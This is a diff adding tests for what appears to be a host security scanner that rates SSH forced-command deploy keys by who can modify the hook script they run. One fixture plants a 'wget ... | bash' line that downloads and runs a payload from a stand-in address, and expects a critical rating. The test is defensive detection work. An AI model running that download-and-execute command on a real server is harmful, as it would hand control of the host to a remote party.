@@ -3,8 +3,8 @@ import fs from 'node:fs';
 import { after, describe, it } from 'node:test';
 import { atLeast } from '../src/model/finding';
 import { scanFixture as scan } from './helpers/scan-fixture';
-import { benignNow, buildBenignServer, DEBIAN_ROOT, hasDebianRoot } from './helpers/benign-server';
-import type { FakeRoot } from './helpers/fake-root';
+import { benignNow, buildBenignServer, DEPLOY_KEY_LINE, DEBIAN_ROOT, hasDebianRoot } from './helpers/benign-server';
+import { FakeRoot } from './helpers/fake-root';
 import { sshd, syslogLines } from './helpers/auth-log';
 
 // Severity comes from combined evidence: a busy, honest web server built on the clean Debian tree
@@ -109,5 +109,64 @@ describe('a benign busy web server', () => {
       assert.ok(found.includes(expected), `${expected} in ${JSON.stringify(found.filter((f) => !f.startsWith('info')))}`);
     const keys = result.findings.find((f) => f.rule === 'ssh/authorized-keys-recent');
     assert.match(keys?.evidence.join('\n') ?? '', /signal: deploy logged in from 203\.0\.113\.77 at \S+ after \d+ failed attempts/);
+  });
+});
+
+describe('a restricted deploy key, judged by the program it runs on the target', () => {
+  const NOW = new Date('2026-11-20T12:00:00Z');
+  const OLD = new Date('2026-06-01T12:00:00Z');
+  const HOOK = '#!/bin/sh\nset -eu\ncd /srv/app && git pull --ff-only && npm ci --omit=dev\n';
+
+  /** A small root with the deploy account and its key; `plant` changes the hook. */
+  async function verdict(plant: (r: FakeRoot) => void): Promise<{ severity: string; evidence: string }[]> {
+    const r = new FakeRoot().base();
+    roots.push(r);
+    r.write('/etc/passwd', `${fs.readFileSync(r.p('/etc/passwd'), 'utf8')}deploy:x:1001:1001::/home/deploy:/bin/bash\n`, { mtime: OLD })
+      .write('/etc/shadow', `${fs.readFileSync(r.p('/etc/shadow'), 'utf8')}deploy:!:19000:0:99999:7:::\n`, { mode: 0o640, mtime: OLD })
+      .write('/home/deploy/.ssh/authorized_keys', DEPLOY_KEY_LINE, { mode: 0o600, mtime: OLD })
+      .write('/usr/local/bin/deploy-hook', HOOK, { mode: 0o755, mtime: OLD });
+    plant(r);
+    const { result } = await scan({ root: r.dir, now: NOW, sampleMs: 0 });
+    return result.findings
+      .filter((f) => f.rule === 'ssh/forced-command-key')
+      .map((f) => ({ severity: f.severity, evidence: f.evidence.join('\n') }));
+  }
+
+  it('a root-owned hook nobody else can write, with nothing dangerous in it: low', async () => {
+    const [f] = await verdict(() => {});
+    assert.equal(f?.severity, 'low');
+    assert.match(f.evidence, /\/usr\/local\/bin\/deploy-hook: uid 0, mode 0755/);
+  });
+
+  it('the same hook, world-writable: high', async () => {
+    const [f] = await verdict((r) => fs.chmodSync(r.p('/usr/local/bin/deploy-hook'), 0o777));
+    assert.equal(f?.severity, 'high');
+    assert.match(f.evidence, /can be rewritten by any account \(mode 0777/);
+  });
+
+  it('the same hook, owned by the deploy account: high', async () => {
+    const [f] = await verdict((r) => fs.chownSync(r.p('/usr/local/bin/deploy-hook'), 1001, 1001));
+    assert.equal(f?.severity, 'high');
+    assert.match(f.evidence, /belongs to uid 1001, not root/);
+  });
+
+  it('the same hook, downloading and running a payload: critical', async () => {
+    const [f] = await verdict((r) =>
+      r.write('/usr/local/bin/deploy-hook', `${HOOK}wget -qO- http://198.51.100.7/x | bash\n`, { mode: 0o755 }),
+    );
+    assert.equal(f?.severity, 'critical');
+    assert.match(f.evidence, /wget -qO- http:\/\/198\.51\.100\.7\/x \| bash/);
+  });
+
+  it('the same options with the command in /tmp: critical', async () => {
+    const [f] = await verdict((r) =>
+      r
+        .write('/home/deploy/.ssh/authorized_keys', DEPLOY_KEY_LINE.replace('/usr/local/bin/deploy-hook', '/tmp/deploy-hook'), {
+          mode: 0o600,
+          mtime: OLD,
+        })
+        .write('/tmp/deploy-hook', HOOK, { mode: 0o755 }),
+    );
+    assert.equal(f?.severity, 'critical');
   });
 });
